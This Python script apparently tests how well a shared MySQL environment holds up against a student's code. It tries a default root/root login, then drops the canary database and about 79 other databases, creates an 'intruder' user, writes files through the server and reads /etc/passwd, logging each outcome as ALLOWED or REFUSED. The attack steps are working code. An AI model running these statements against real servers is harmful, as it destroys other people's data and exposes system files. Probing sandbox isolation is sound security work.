#!/usr/bin/python3
"""An attack on the servers, as a student script (placed as step 2).

It tries the README's admin login by socket and by TCP, then, with the
login it was given: dropping a database of the project's server and those
of the other files, creating a user, writing files through the server,
reading a client file (LOAD DATA LOCAL), and leaving a prepared XA
transaction and a held lock behind.  What went through is written to
/notes/server.txt.  The targets are in ./target.json, as an attacker
would guess them.
"""
import json
import sys

import MySQLdb


def note(line):
    """Write down one outcome."""
    with open("/notes/server.txt", "a") as out:
        out.write(line + "\n")


def attempt(what, login, statements):
    """Log in with ``login``; send ``statements``; note each outcome."""
    try:
        db = login()
    except MySQLdb.Error as error:
        note("REFUSED {} login: {}".format(what, error.args[0]))
        return None
    note("ALLOWED {} login".format(what))
    for statement in statements:
        try:
            db.cursor().execute(statement)
            note("ALLOWED {}: {}".format(what, statement))
        except MySQLdb.Error as error:
            note("REFUSED {}: {}: {}".format(what, statement,
                                             error.args[0]))
    return db


def main(user, password, database):
    """Every attack once, each bounded."""
    target = json.load(open("target.json"))
    harm = ["DROP DATABASE {}".format(target["canary"]),
            "CREATE USER intruder@localhost IDENTIFIED BY 'x'",
            "SELECT 'import os' INTO DUMPFILE '{}'".format(target["evil"]),
            "SELECT 1 INTO OUTFILE '{}'".format(target["evil"] + ".txt")]
    for what, host in (("root by socket", "localhost"),
                       ("root by TCP", "127.0.0.1")):
        attempt(what, lambda: MySQLdb.connect(
            host=host, port=3306, user="root", password="root",
            connect_timeout=2), harm)
    others = ["DROP DATABASE hbtn_run_{}".format(n) for n in range(1, 80)
              if "hbtn_run_{}".format(n) != database]
    own = attempt("own login", lambda: MySQLdb.connect(
        host="localhost", user=user, password=password, database=database),
        harm + others + ["XA START 'left'",
                         "INSERT INTO states (name) VALUES ('xa')",
                         "XA END 'left'", "XA PREPARE 'left'"])
    if own is not None:
        cur = own.cursor()
        cur.execute("SELECT LOAD_FILE('/etc/passwd')")
        note("LOAD_FILE gave {!r}".format(cur.fetchone()[0]))
    attempt("LOCAL INFILE", lambda: MySQLdb.connect(
        host="localhost", user=user, password=password, database=database,
        local_infile=1), ["LOAD DATA LOCAL INFILE '/etc/passwd'"
                          " INTO TABLE states"])
    attempt("lock", lambda: MySQLdb.connect(
        host="localhost", user=user, password=password),
        ["SELECT GET_LOCK('hbtn_server_log', 0)"])
    print(own is not None)


if __name__ == "__main__":
    main(*sys.argv[1:4])
